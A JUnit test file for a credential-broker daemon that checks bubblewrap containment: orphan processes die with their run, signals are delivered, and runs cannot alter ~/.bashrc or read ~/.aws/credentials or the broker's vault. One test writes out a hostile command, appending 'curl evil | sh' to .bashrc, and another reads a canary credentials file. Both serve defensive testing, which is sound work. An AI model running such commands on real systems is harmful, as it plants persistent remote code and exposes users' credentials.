package dev.brokerctl.daemon;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.brokerctl.protocol.BrokerClient;
import dev.brokerctl.protocol.Message;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.TimeoutException;
import java.util.concurrent.atomic.AtomicReference;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Every approved command runs in a PID namespace of its own: nothing it starts outlives it. These
 * run real bubblewrap; a host where it cannot run fails here (it does not skip), as the daemon
 * would otherwise say "runs not contained".
 */
class ContainedRunsTest {

    @TempDir
    Path tmp;
    DaemonFixture f;
    final List<Long> strays = new ArrayList<>();

    @AfterEach
    void stop() throws Exception {
        strays.forEach(pid -> ProcessHandle.of(pid).ifPresent(ProcessHandle::destroyForcibly));
        if (f != null) {
            f.close();
        }
    }

    /** An orphan in a session of its own; the run ends only once it has left the run's group. */
    private static List<String> orphan(Path ready) {
        return List.of("sh", "-c", "setsid sh -c 'touch " + ready + "; exec sleep 300' >/dev/null 2>&1 &"
                + " while [ ! -e " + ready + " ]; do sleep 0.01; done");
    }

    @Test
    void aRunsSetsidOrphan_diesWithTheRun_butOutlivesAnUncontainedOne() throws Exception {
        f = new DaemonFixture(tmp).start(Duration.ofSeconds(120), true);
        try (BrokerClient c = f.connect()) {
            Message status = c.call(Message.of("status"));
            assertTrue(status.bool("runs_contained", false), status.string("containment", ""));
        }
        // bwrap exits with the command, before the kernel has emptied the namespace: the exit is
        // reported only once it has (it was not, and a check right after the exit found the orphan)
        for (int i = 0; i < 3; i++) {
            assertEquals(0, DaemonProtocolTest.run(f, "dev", orphan(tmp.resolve("ready-1-" + i))).last()
                    .number("exit_code", -1));
            List<Long> left = holdingTheCanary();
            assertEquals(List.of(), left, "a process outlived its contained run " + i + " with the value: "
                    + left.stream().map(ContainedRunsTest::describe).toList());
        }
        f.close();

        // the control: the same run in a process group only leaves the orphan, value and all
        f = new DaemonFixture(tmp.resolve("control"), config -> config.withContainedRuns(false))
                .start(Duration.ofSeconds(120), true);
        assertEquals(0, DaemonProtocolTest.run(f, "dev", orphan(tmp.resolve("ready-2"))).last().number("exit_code", -1));
        List<Long> left = holdingTheCanary();
        strays.addAll(left);
        assertEquals(1, left.size(), "the uncontained run's orphan is still there");
    }

    /**
     * bwrap exits with the command, while the namespace's init, left behind, is still killing what
     * is in it: a check right after bwrap's exit finds its group there (seen 100 of 100 on a
     * 2-core VM) and the orphan alive (22 of 100). Once the launcher adopts the inits, the end of
     * a run waits for the namespace to be empty. The control is the same launcher not opened.
     */
    @Test
    void theEndOfAContainedRun_waitsUntilTheNamespaceIsEmpty() throws Exception {
        Path bwrap = dev.brokerctl.containment.Bwrap.find(System.getenv("PATH")).orElseThrow();
        Spawner spawner = new Spawner();
        NamespaceLauncher adopting = new NamespaceLauncher(bwrap, spawner, cwd -> List.of("--bind", "/", "/",
                "--dev", "/dev", "--proc", "/proc"));
        NamespaceLauncher control = new NamespaceLauncher(bwrap, spawner, cwd -> List.of("--bind", "/", "/",
                "--dev", "/dev", "--proc", "/proc"));
        adopting.open(tmp.resolve("sock"));
        try {
            for (int i = 0; i < 10; i++) {
                Process p = startOrphan(adopting, "adopting-" + i);
                assertFalse(Posix.killGroup(p.pid(), 0), "run " + i + ": something of it is left");
            }
            adopting.close();
            int left = 0;
            for (int i = 0; i < 20; i++) {
                Process p = startOrphan(control, "control-" + i);
                if (Posix.killGroup(p.pid(), 0)) {
                    left++;
                }
            }
            assertTrue(left > 0, "without adoption, bwrap's exit comes before the namespace is empty");
        } finally {
            adopting.close();
        }
    }

    @Test
    void theWaitForANamespace_isBounded_andOneThatCannotEmptyHoldsUpNoOtherRun() throws Exception {
        // A namespace that cannot empty (a process in uninterruptible sleep) is stood in for by a
        // reaper that blocks on the first run's group until the test ends.
        Path bwrap = dev.brokerctl.containment.Bwrap.find(System.getenv("PATH")).orElseThrow();
        java.util.concurrent.CountDownLatch release = new java.util.concurrent.CountDownLatch(1);
        java.util.concurrent.atomic.AtomicLong stuck = new java.util.concurrent.atomic.AtomicLong();
        java.util.Set<Long> reaped = java.util.concurrent.ConcurrentHashMap.newKeySet();
        java.util.function.LongPredicate reaper = pgid -> {
            if (stuck.compareAndSet(0, pgid)) {
                try {
                    release.await();
                } catch (InterruptedException e) {
                    Thread.currentThread().interrupt();
                }
            }
            boolean r = Posix.reapOneOfGroup(pgid);
            reaped.add(pgid);
            return r;
        };
        NamespaceLauncher launcher = new NamespaceLauncher(bwrap, new Spawner(), cwd -> List.of(),
                reaper, Duration.ofMillis(300));
        launcher.open(tmp.resolve("sock"));
        try {
            Process first = startTrue(launcher);
            org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(Duration.ofSeconds(20), () -> launcher.kill(first),
                    "the end of a run whose namespace does not empty must not wait for ever");
            assertEquals(first.pid(), stuck.get());
            Process second = startTrue(launcher);
            org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(Duration.ofSeconds(20), () -> launcher.kill(second));
            assertTrue(reaped.contains(second.pid()), "the second run's wait ran to its end while the first's hung");
            assertFalse(Posix.killGroup(second.pid(), 0), "nothing of the second run is left");
        } finally {
            release.countDown();
            launcher.close();
        }
    }

    @Test
    void theWaitForAnInit_neverReapsAGroupLeader_whoseExitStatusStaysTheJdks() throws Exception {
        // bwrap's group id reused by a later setsid'd child: the wait for the old init must not
        // take that child's exit from the JDK (which would then report 0). The control: the same
        // wait does reap a member of the group that does not lead it.
        org.junit.jupiter.api.Assumptions.assumeTrue(ProcessTree.groupsAvailable());
        for (int i = 0; i < 20; i++) {
            Process leader = new ProcessBuilder("setsid", "sh", "-c", "echo ready; read x; exit 3")
                    .redirectErrorStream(true).start();
            assertEquals("ready", new java.io.BufferedReader(new java.io.InputStreamReader(
                    leader.getInputStream(), StandardCharsets.UTF_8)).readLine());
            java.util.concurrent.CompletableFuture<Boolean> waited =
                    java.util.concurrent.CompletableFuture.supplyAsync(() -> Posix.reapOneOfGroup(leader.pid()));
            leader.getOutputStream().close();
            assertEquals(3, leader.waitFor(), "try " + i + ": the leader's own exit status");
            assertFalse(waited.get(10, TimeUnit.SECONDS), "try " + i + ": a group leader is not reaped");
        }
        Process leader = new ProcessBuilder("setsid", "sh", "-c", "sleep 300 & echo $!; read x")
                .redirectErrorStream(true).start();
        long member = Long.parseLong(new java.io.BufferedReader(new java.io.InputStreamReader(
                leader.getInputStream(), StandardCharsets.UTF_8)).readLine().trim());
        Posix.setChildSubreaper(true);
        try {
            leader.getOutputStream().close();   // the leader exits; its member is adopted by this JVM
            leader.waitFor();
            Posix.kill(member, Posix.SIGKILL);
            assertTrue(Posix.reapOneOfGroup(leader.pid()), "the adopted member of the group is reaped");
            assertFalse(ProcessHandle.of(member).isPresent(), "and gone");
        } finally {
            Posix.setChildSubreaper(false);
        }
    }

    private Process startTrue(NamespaceLauncher launcher) throws Exception {
        ProcessBuilder pb = new ProcessBuilder().redirectOutput(ProcessBuilder.Redirect.DISCARD)
                .redirectErrorStream(true).redirectInput(ProcessBuilder.Redirect.from(new java.io.File("/dev/null")));
        Process p = launcher.start(pb, List.of("/bin/true"), tmp, true);
        assertEquals(0, p.waitFor());
        return p;
    }

    /** Starts a command that leaves a setsid orphan, waits for it, and ends it as a run ends. */
    private Process startOrphan(NamespaceLauncher launcher, String name) throws Exception {
        List<String> argv = List.of("/bin/sh", "-c", "setsid sh -c 'exec sleep 300' >/dev/null 2>&1 & sleep 0.01");
        ProcessBuilder pb = new ProcessBuilder().redirectOutput(ProcessBuilder.Redirect.DISCARD)
                .redirectErrorStream(true).redirectInput(ProcessBuilder.Redirect.from(new java.io.File("/dev/null")));
        Process p = launcher.start(pb, argv, tmp, true);
        assertEquals(0, p.waitFor(), name);
        launcher.kill(p);
        return p;
    }

    @Test
    void aForwardedSignal_reachesTheCommand_whoseOwnExitStatusComesBack() throws Exception {
        f = new DaemonFixture(tmp).start(Duration.ofSeconds(120), true);
        try (BrokerClient c = f.connect()) {
            c.send(DaemonProtocolTest.runMessage("dev", List.of("sh", "-c",
                    "trap 'exit 3' TERM; echo ready; while :; do sleep 1; done")));
            assertEquals("started", Message.parse(c.receive().payload()).type());
            assertEquals("ready\n", new String(c.receive().payload(), StandardCharsets.UTF_8));
            c.send(Message.of("signal").with("signal", 15));
            assertEquals(3, DaemonProtocolTest.collect(c).last().number("exit_code", -1));
        }
    }

    @Test
    void aRun_cannotWriteShellStartUpFilesOrHooks_andSeesNeitherTheBrokerHomeNorCredentials() throws Exception {
        Path home = Files.createDirectories(tmp.resolve("user-home"));
        Files.writeString(home.resolve(".bashrc"), "# the user's\n");
        Files.createDirectories(home.resolve(".aws"));
        Files.writeString(home.resolve(".aws/credentials"), "aws-canary\n");
        java.util.Map<String, String> env = new java.util.HashMap<>(System.getenv());
        env.put("HOME", home.toString());
        f = new DaemonFixture(tmp, config -> config.withEnvironment(env)).start(Duration.ofSeconds(120), true);
        Path vaultDir = f.vaultFile.getParent();

        DaemonProtocolTest.RunResult bashrc = DaemonProtocolTest.run(f, "dev", List.of("sh", "-c",
                "echo 'curl evil | sh' >> \"$HOME/.bashrc\""));
        assertTrue(bashrc.last().number("exit_code", -1) != 0, "writing ~/.bashrc failed");
        assertEquals("# the user's\n", Files.readString(home.resolve(".bashrc")));
        DaemonProtocolTest.RunResult other = DaemonProtocolTest.run(f, "dev", List.of("sh", "-c",
                "echo ok > \"$HOME/notes.txt\" && cat \"$HOME/.aws/credentials\"; ls -A " + vaultDir));
        assertEquals("ok\n", Files.readString(home.resolve("notes.txt")), "the rest of the home is writable");
        assertFalse(other.stdout().contains("aws-canary"), other.stdout());
        assertFalse(other.stdout().contains("vault.db"), "the broker home is hidden: " + other.stdout());

        // the control: an environment whose run profile is host gets the whole file system
        f.daemon.shutdown();
        try (var s = dev.brokerctl.vault.Vault.open(f.vaultFile).unlock(DaemonFixture.PASSPHRASE.toCharArray())) {
            s.setPolicy("dev", dev.brokerctl.vault.Policy.AUTO, null, true, null);
        }
        f.start(Duration.ofSeconds(120), true);
        assertEquals(0, DaemonProtocolTest.run(f, "dev", List.of("sh", "-c",
                "echo '# host profile' >> \"$HOME/.bashrc\"")).last().number("exit_code", -1));
        assertEquals("# the user's\n# host profile\n", Files.readString(home.resolve(".bashrc")));
    }

    /**
     * A signal right after "started" may come before bwrap forked the command: it must still end
     * the run, never be lost (it was, under load, and the run went on for its full length).
     */
    @Test
    @org.junit.jupiter.api.Timeout(60)
    void aSignalRightAfterTheStart_isNeverLost() throws Exception {
        f = new DaemonFixture(tmp).start(Duration.ofSeconds(120), true);
        for (int i = 0; i < 20; i++) {
            try (BrokerClient c = f.connect()) {
                c.send(DaemonProtocolTest.runMessage("dev", List.of("sleep", "600")));
                assertEquals("started", Message.parse(c.receive().payload()).type());
                c.send(Message.of("signal").with("signal", 15));
                assertEquals(128 + 15, DaemonProtocolTest.collect(c).last().number("exit_code", -1), "run " + i);
            }
        }
    }

    /**
     * PR_SET_PDEATHSIG (bwrap's --die-with-parent) fires when the thread that forked the child
     * exits, so runs are started from one long-lived thread. The control starts the same command
     * from the short-lived thread itself: it dies as that thread ends.
     */
    @Test
    void aRunStartedFromAThreadThatEnds_keepsRunning_becauseTheSpawnerThreadForksIt() throws Exception {
        Path bwrap = dev.brokerctl.containment.Bwrap.find(System.getenv("PATH")).orElseThrow();
        List<String> sleeper = List.of(bwrap.toString(), "--unshare-pid", "--die-with-parent", "--bind", "/", "/",
                "--dev", "/dev", "--proc", "/proc", "--", "sh", "-c", "echo up; exec sleep 30");
        Spawner spawner = new Spawner();
        Process viaSpawner = startFromAThreadThatEnds(() -> spawner.start(new ProcessBuilder(sleeper)));
        Process direct = startFromAThreadThatEnds(() -> new ProcessBuilder(sleeper).start());
        try {
            assertEquals(128 + 9, direct.onExit().get(10, TimeUnit.SECONDS).exitValue(),
                    "the control dies with the thread that forked it");
            assertThrows(TimeoutException.class, () -> viaSpawner.onExit().get(1, TimeUnit.SECONDS),
                    "started by the spawner, it outlives the thread that asked");
        } finally {
            viaSpawner.destroyForcibly();
            direct.destroyForcibly();
        }
    }

    private interface Start {
        Process start() throws IOException;
    }

    private static Process startFromAThreadThatEnds(Start start) throws Exception {
        AtomicReference<Process> p = new AtomicReference<>();
        Thread t = new Thread(() -> {
            try {
                Process started = start.start();
                p.set(started);
                // bwrap has set its PR_SET_PDEATHSIG by the time the command inside speaks
                started.getInputStream().read();
            } catch (IOException e) {
                throw new IllegalStateException(e);
            }
        }, "short-lived");
        t.start();
        t.join();
        assertFalse(t.isAlive());
        return p.get();
    }

    /** Every process on the machine with the fixture's canary value in its environment. */
    static List<Long> holdingTheCanary() throws IOException {
        byte[] canary = DaemonFixture.CANARY.getBytes(StandardCharsets.UTF_8);
        List<Long> out = new ArrayList<>();
        try (Stream<Path> procs = Files.list(Path.of("/proc"))) {
            for (Path p : procs.filter(p -> p.getFileName().toString().matches("\\d+")).toList()) {
                try {
                    byte[] env = Files.readAllBytes(p.resolve("environ"));
                    if (indexOf(env, canary) >= 0) {
                        out.add(Long.parseLong(p.getFileName().toString()));
                    }
                } catch (IOException e) {
                    // gone, or not ours to read
                }
            }
        }
        return out;
    }

    /** A process's command line and parent, for a failure message. */
    private static String describe(long pid) {
        try {
            String cmd = new String(Files.readAllBytes(Path.of("/proc/" + pid + "/cmdline")), StandardCharsets.UTF_8)
                    .replace('\0', ' ').strip();
            return pid + " (" + cmd + ", parent " + ProcessHandle.of(pid).flatMap(ProcessHandle::parent)
                    .map(ProcessHandle::pid).orElse(-1L) + ")";
        } catch (IOException e) {
            return pid + " (gone)";
        }
    }

    /** Where {@code needle} first occurs in {@code hay}, or -1. */
    static int indexOf(byte[] hay, byte[] needle) {
        outer:
        for (int i = 0; i + needle.length <= hay.length; i++) {
            for (int j = 0; j < needle.length; j++) {
                if (hay[i + j] != needle[j]) {
                    continue outer;
                }
            }
            return i;
        }
        return -1;
    }
}
